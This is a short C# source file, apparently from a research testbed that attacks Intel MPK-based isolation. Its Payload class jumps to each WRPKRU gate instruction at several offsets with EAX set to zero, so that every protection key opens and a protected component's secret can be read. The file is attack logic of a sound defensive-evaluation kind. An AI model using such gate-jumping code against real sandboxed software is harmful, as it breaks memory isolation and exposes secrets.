namespace Testbed.Attacks.D09;

/// <summary>
/// Jumps to every WRPKRU of the gate section, from four places around it, with EAX = 0, which opens every key. The other registers
/// are what a copy routine or a return half behind it would use: T's secret as source, its own stack as the stack to return to.
/// One jump in each life; whatever comes back reads T's secret.
/// </summary>
static class Payload
{
    const ulong OpenAll = 0;
    const ulong Offsets = 4;

    /// <summary>Where to come in: in front of XOR ECX, of XOR EDX, of the WRPKRU, and behind it.</summary>
    static nint Offset(ulong number) => number switch { 0 => -4, 1 => -2, 2 => 0, _ => Gate.SwitchBytes };

    public static void Run(ulong attempt)
    {
        nuint start = Attempt.Address("gates"u8), end = Gate.End(start);
        ulong sites = Gate.Sites(start, end);
        // The last first: the first gate is the one by which T starts this program.
        if (!Attempt.TryBegin(attempt, sites * Offsets))
            return;
        nuint site = Gate.Site(start, end, sites - 1 - attempt / Offsets);
        Gate.Enter(site + (nuint)Offset(attempt % Offsets), OpenAll);
        Attempt.Keep(Attempt.Address("target"u8));
        Attempt.End();
    }
}
